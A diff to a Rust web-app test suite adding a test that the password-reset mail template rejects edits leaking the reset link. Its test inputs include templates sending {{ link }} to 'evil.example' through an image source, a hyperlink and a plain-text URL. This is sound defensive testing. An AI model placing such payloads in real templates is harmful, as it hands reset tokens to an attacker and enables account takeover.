@@ -283,3 +283,27 @@ async fn a_full_outbox_mutes_no_security_notice() {
     admin.post("/api/v1/api-keys", json!({"name": "k", "scopes": []})).await.expect(201);
     assert_eq!(count(acme.database(), notices).await, (before + 1).to_string());
 }
+
+/// Whoever words mails does not get what is in them.
+#[actix_web::test]
+async fn the_link_to_a_new_password_is_for_its_reader_alone() {
+    let (app, _) = shared().await;
+    let acme = app.tenant("acme").await;
+    let path = "/api/v1/mail-templates/password-reset/en";
+    let body = |text: &str, html: &str| json!({"subject": "s", "text": text, "html": html});
+    let good = "<p>Hello {{ name }}</p><a href=\"{{ link }}\">Choose another one</a>";
+    acme.admin().put(path, body("Here:\n{{ link }}", good)).await.expect(200);
+    for (field, body) in [
+        ("html", body("{{ link }}", "<img src=\"https://evil.example/p?{{ link }}\"> {{ link }}")),
+        ("html", body("{{ link }}", "<a href=\"https://evil.example/p?{{ link }}\">Choose another one</a>")),
+        ("text", body("https://evil.example/p?{{ link }}", good)),
+        ("subject", json!({"subject": "{{ link }}", "text": "{{ link }}"})),
+    ] {
+        let refused = acme.admin().put(path, body).await;
+        assert_eq!(refused.invalid(), [(field.to_owned(), "invalid_template".to_owned())], "{refused:?}");
+    }
+    let later = TestApp::builder().beside(app).start().await;
+    let known = later.at(&acme).anonymous().bearing(&acme.admin().token().await);
+    later.clock().advance(chrono::TimeDelta::minutes(11));
+    known.put(path, body("{{ link }}", good)).await.refused(403, "step_up_required");
+}
